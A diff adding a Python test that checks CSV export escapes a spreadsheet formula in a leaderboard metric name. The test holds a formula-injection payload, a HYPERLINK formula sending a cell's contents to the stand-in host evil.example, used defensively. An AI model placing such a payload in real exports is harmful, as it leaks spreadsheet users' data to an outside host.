@@ -105,6 +105,14 @@ def test_an_endpoint_is_named_by_its_address(workspace: Workspace, save: Any) ->
     assert line.kind == "endpoint" and "http://127.0.0.1:8700" in render([line])
 
 
+def test_a_name_that_a_spreadsheet_would_run_is_text_in_csv(workspace: Workspace, save: Any) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    save(A, 80)
+    (line,) = leaderboard_rows(workspace.artifacts)
+    (row,) = csv.DictReader(io.StringIO(render([replace(line, metric=hostile, low=-0.5)], "csv")))
+    assert (row["metric"], row["low"]) == (f"'{hostile}", "-0.5")
+
+
 def test_every_format_holds_every_line(workspace: Workspace, save: Any) -> None:
     save(A, 80, baseline=90)
     lines = leaderboard_rows(workspace.artifacts)
